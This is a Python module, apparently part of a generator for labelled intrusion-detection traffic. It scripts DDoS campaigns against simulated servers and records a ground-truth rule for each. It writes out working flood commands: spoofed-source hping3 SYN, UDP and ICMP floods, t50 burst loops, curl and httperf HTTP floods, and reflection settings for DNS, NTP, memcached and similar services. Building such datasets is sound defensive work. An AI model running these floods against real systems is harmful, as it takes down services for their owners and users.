"""Floods from many sources, real and invented."""

from attacks.aim import aim, flags_pass, has_ipv6, is_open
from attacks.attack import Campaign, Rule, attack
from attacks.steps import program, tool
from world.hosts import INSIDE_SERVERS

_TCP_PORTS = {"web": (80, 443), "files": (21, 22), "db": (22, 6379), "infra": (25, 53)}

ANYBODY = "*"


def _pace(chance, fastest=700):
    rate = chance.randint(150, fastest)
    return ("-i", f"u{1_000_000 // rate}", "-c", chance.randint(rate * 5, min(12_000, rate * 30)))


def _spoofed(chance, world, proto, make_options, **more):
    """A flood with sources of chance; behind the home's router or before it."""
    aimed = aim(chance, world, **more)
    port, options = make_options(aimed)
    words = ("hping3", "-q", "-n", "--rand-source", *options, *_pace(chance), aimed.at)
    step = tool(aimed.actor, *words, seconds=56, good=(0, 1))
    rule = Rule(ANYBODY, aimed.seen, str(port), proto)
    return Campaign((step,), (rule,), (), (aimed.seen,), least_packets=500)


@attack("ddos", "DDoSSYNFlood", "hping3", "syn-spoofed")
def spoofed_syn_flood(chance, world):
    def options(aimed):
        port = chance.choice(_TCP_PORTS[aimed.target.name])
        more = chance.choice(((), (), ("-d", chance.randint(20, 120)), ("-w", chance.choice((64, 512, 1024)))))
        return port, ("-S", "-p", port, *more)

    return _spoofed(chance, world, "tcp", options)


@attack("ddos", "DDoSSYNFlood", "hping3", "flags-spoofed", fits=is_open)
def spoofed_flag_flood(chance, world):
    """A translating router lets nothing in that belongs to no connection, but from inside."""

    def options(aimed):
        port = chance.choice(_TCP_PORTS[aimed.target.name])
        return port, (*chance.choice((("-A",), ("-R",), ("-S", "-A"), ("-F", "-A"))), "-p", port)

    return _spoofed(chance, world, "tcp", options)


@attack("ddos", "DDoSUDPFlood", "hping3", "udp-spoofed")
def spoofed_udp_flood(chance, world):
    def options(aimed):
        port = chance.choice((53, 123, 443, chance.randint(1024, 65000)))
        return port, ("--udp", "-p", port, "-d", chance.choice((16, 64, 300, 800, 1300)))

    return _spoofed(chance, world, "udp", options)


@attack("ddos", "DDoSICMPFlood", "hping3", "icmp-spoofed")
def spoofed_icmp_flood(chance, world):
    def options(aimed):
        return "*", ("--icmp", "-d", chance.choice((8, 56, 400, 1000)))

    return _spoofed(chance, world, "icmp", options)


@attack("ddos", "DDoSSYNFlood", "hping3", "bad-checksum", fits=is_open)
def bad_checksum_flood(chance, world):
    """Packets that the target throws away, but which filled the way to it."""

    def options(aimed):
        port = chance.choice(_TCP_PORTS[aimed.target.name])
        return port, ("-S", "-b", "-p", port)

    return _spoofed(chance, world, "tcp", options)


@attack("ddos", "DDoSUDPFlood", "hping3", "udp-many")
def udp_flood_from_many(chance, world):
    return _together(chance, world, "udp", ("--udp", "-d", chance.choice((20, 100, 500, 1200))))


@attack("ddos", "DDoSSYNFlood", "hping3", "syn-many")
def syn_flood_from_many(chance, world):
    return _together(chance, world, "tcp", ("-S",))


@attack("ddos", "DDoSICMPFlood", "hping3", "icmp-many")
def icmp_flood_from_many(chance, world):
    return _together(chance, world, "icmp", ("--icmp", "-d", chance.choice((56, 500))))


def _together(chance, world, proto, options):
    """Several real addresses at once."""
    swarm = world["swarm"]
    target = world[chance.choice(INSIDE_SERVERS)]
    at = world.reach(target, swarm)
    sources = chance.sample(swarm.v4, chance.randint(6, 14))
    port = {"tcp": chance.choice(_TCP_PORTS[target.name]), "udp": chance.randint(1, 60000), "icmp": None}[proto]
    seconds = chance.randint(8, 25)
    rate = chance.randint(150, 500) // len(sources)
    steps = []
    for source in sources:
        own = max(5, int(rate * chance.uniform(0.5, 1.5)))
        words = ["hping3", "-q", "-n", *options, "-a", source, "-i", f"u{1_000_000 // own}", "-c", own * seconds]
        words += ["-p", port] if port else []
        steps.append(
            tool(swarm, *words, at, background=True, good=(0, 1, None), pause=round(chance.uniform(0, 0.5), 2))
        )
    steps.append(tool(swarm, "sleep", seconds + 4, seconds=40))
    rule = Rule(";".join(sources), target.ip, str(port or "*"), proto)
    return Campaign(tuple(steps), (rule,), tuple(sources), (target.ip,), least_packets=500)


@attack("ddos", "DDoSHTTPFlood", "many-visitors", "http-many")
def http_flood_from_many(chance, world):
    """Every address of the swarm asks for pages that are dear to make."""
    swarm = world["swarm"]
    at = world.reach(world["web"], swarm)
    page = chance.choice(("/app/slow", "/app/search?q={}", "/", "/app/item?id={}"))
    tls = chance.random() < 0.3
    words = ("--sources", ",".join(swarm.v4), "--target", at, "--port", 443 if tls else 80, "--page", page)
    words += (
        "--rate",
        chance.randint(25, 90),
        "--seconds",
        chance.randint(12, 35),
        "--seed",
        chance.randrange(1 << 30),
    )
    step = program(swarm, "many_visitors", *words, seconds=56, good=(0, None))
    return _from_all(world, step, 443 if tls else 80)


@attack("ddos", "DDoSHTTPFlood", "many-visitors", "http-ipv6", fits=has_ipv6)
def http_flood_from_many_ipv6(chance, world):
    swarm, web = world["swarm"], world["web"]
    words = ("--sources", ",".join(swarm.v6), "--target", web.ip6, "--port", 80, "--page", "/app/search?q={}")
    words += (
        "--rate",
        chance.randint(25, 80),
        "--seconds",
        chance.randint(12, 30),
        "--seed",
        chance.randrange(1 << 30),
    )
    rule = Rule(";".join(swarm.v6), web.ip6, "80", "tcp")
    step = program(swarm, "many_visitors", *words, seconds=56, good=(0, None))
    return Campaign((step,), (rule,), tuple(swarm.v6), (web.ip6,), least_packets=500)


def _from_all(world, step, port, least=500):
    swarm = world["swarm"]
    rule = Rule(";".join(swarm.v4), world["web"].ip, str(port), "tcp")
    return Campaign((step,), (rule,), tuple(swarm.v4), (world["web"].ip,), least_packets=least)


@attack("ddos", "DDoSConnectionFlood", "many-visitors", "connections-many")
def connections_from_many(chance, world):
    """Connections that say nothing, from everywhere."""
    swarm = world["swarm"]
    at = world.reach(world["web"], swarm)
    words = ("--sources", ",".join(swarm.v4), "--target", at, "--port", 80, "--hold")
    words += (
        "--rate",
        chance.randint(30, 120),
        "--seconds",
        chance.randint(12, 35),
        "--seed",
        chance.randrange(1 << 30),
    )
    return _from_all(world, program(swarm, "many_visitors", *words, seconds=56, good=(0, None)), 80)


# Port that answers, and how long the answers are at most.
_REFLECTED = {
    "dns": (53, 3800),
    "ntp": (123, 468),
    "ssdp": (1900, 420),
    "memcached": (11211, 1400),
    "snmp": (161, 1350),
}


@attack("ddos", "DDoSReflection", "reflection", "reflection")
def reflected_flood(chance, world):
    """
    Long answers to short questions, which the attacker asked in the target's name. The questions pass outside; at home
    only the answers are seen.
    """
    swarm = world["swarm"]
    target = world[chance.choice(INSIDE_SERVERS)]
    kind = chance.choice(sorted(_REFLECTED))
    port, longest = _REFLECTED[kind]
    sources = chance.sample(swarm.v4, chance.randint(8, 16))
    rate = chance.randint(100, 500)
    words = (
        "--sources",
        ",".join(sources),
        "--target",
        world.reach(target, swarm),
        "--kind",
        kind,
        "--from-port",
        port,
    )
    words += ("--to-port", chance.randint(1024, 65000), "--longest", longest, "--rate", rate)
    words += ("--seconds", chance.randint(8, 25), "--seed", chance.randrange(1 << 30))
    rule = Rule(";".join(sources), target.ip, proto="udp", sport=str(port), subtype=f"reflection-{kind}")
    step = program(swarm, "reflection", *words, seconds=56)
    return Campaign((step,), (rule,), tuple(sources), (target.ip,), least_packets=500)


@attack("ddos", "DDoSSYNFlood", "t50", "syn-spoofed")
def t50_spoofed_syn(chance, world):
    aimed = aim(chance, world, actors=flags_pass(world))
    port = chance.choice(_TCP_PORTS[aimed.target.name])
    return _bursts(chance, aimed, port, "tcp", f"--protocol TCP -S --dport {port}")


@attack("ddos", "DDoSUDPFlood", "t50", "udp-spoofed")
def t50_spoofed_udp(chance, world):
    aimed = aim(chance, world, actors=flags_pass(world))
    port = chance.choice((53, 123, chance.randint(1024, 65000)))
    return _bursts(chance, aimed, port, "udp", f"--protocol UDP --dport {port}")


def _bursts(chance, aimed, port, proto, options):
    """t50 knows no rate: short bursts with pauses. Its sources are of chance, its checksums wrong."""
    burst = chance.randint(100, 600)
    pause = round(max(0.2, burst / 1300) + chance.uniform(0, 0.5), 2)
    line = f"t50 {aimed.at} --threshold {burst} {options} >/dev/null"
    loop = f"i=0; while [ $i -lt {chance.randint(10, 25)} ]; do {line} || exit 1; sleep {pause}; i=$((i + 1)); done"
    step = tool(aimed.actor, "sh", "-c", loop, seconds=56)
    rule = Rule(ANYBODY, aimed.seen, str(port), proto)
    return Campaign((step,), (rule,), (), (aimed.seen,), least_packets=500)


@attack("ddos", "DDoSHTTPFlood", "httperf", "http-many")
def httperf_from_many(chance, world):
    """httperf takes its source from the route, so the other addresses have another tool beside it."""
    return _visits(chance, world, "httperf")


@attack("ddos", "DDoSHTTPFlood", "curl", "http-many")
def curl_from_many(chance, world):
    return _visits(chance, world, "curl")


def _visits(chance, world, name):
    swarm = world["swarm"]
    at = world.reach(world["web"], swarm)
    page = chance.choice(("/app/slow", "/app/", "/app/search?q=table"))
    sources = chance.sample(swarm.v4[1:], 8)
    steps = []
    if name == "httperf":
        rate = chance.randint(15, 60)
        words = ("httperf", "--hog", "--server", at, "--port", 80, "--uri", page, "--rate", rate, "--timeout", 5)
        steps.append(tool(swarm, *words, "--num-conns", rate * 15, background=True, good=(0, None)))
    for source in sources:
        loop = f"i=0; while [ $i -lt 60 ]; do curl -s -m 5 -o /dev/null --interface {source} 'http://{at}{page}'"
        loop += f"; sleep {round(chance.uniform(0.05, 0.5), 2)}; i=$((i + 1)); done"
        steps.append(tool(swarm, "sh", "-c", loop, background=True, good=(0, 28, None)))
    steps.append(tool(swarm, "sleep", chance.randint(15, 30), seconds=40))
    sources = [swarm.ip, *sources] if name == "httperf" else sources
    rule = Rule(";".join(sources), world["web"].ip, "80", "tcp")
    return Campaign(tuple(steps), (rule,), tuple(sources), (world["web"].ip,), least_packets=500)


@attack("ddos", "DDoSSYNFlood", "scapy-flood", "syn-crafted", fits=is_open)
def crafted_syn_flood(chance, world):
    """Sources within a few networks, and options like those of real systems."""
    aimed = aim(chance, world)
    port = chance.choice(_TCP_PORTS[aimed.target.name])
    rate = chance.randint(100, 500)
    words = ("--target", aimed.at, "--port", port, "--rate", rate, "--count", rate * chance.randint(6, 20))
    words += ("--networks", chance.randint(2, 12), "--seed", chance.randrange(1 << 30))
    step = program(aimed.actor, "crafted_flood", *words, seconds=56)
    return Campaign((step,), (Rule(ANYBODY, aimed.seen, str(port), "tcp"),), (), (aimed.seen,), least_packets=500)
